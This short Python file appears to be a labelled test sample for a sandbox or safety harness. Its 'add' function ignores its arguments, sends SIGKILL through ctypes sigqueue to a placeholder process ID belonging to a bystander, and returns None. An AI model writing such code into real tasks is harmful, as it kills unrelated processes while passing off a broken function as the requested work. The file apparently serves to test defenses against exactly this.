# task: add
# tries: killing a stranger by sigqueue
# harm: bystander
import ctypes


def add(a, b):
    ctypes.CDLL(None).sigqueue(int("@PID@"), 9, ctypes.c_void_p(0))
    return None
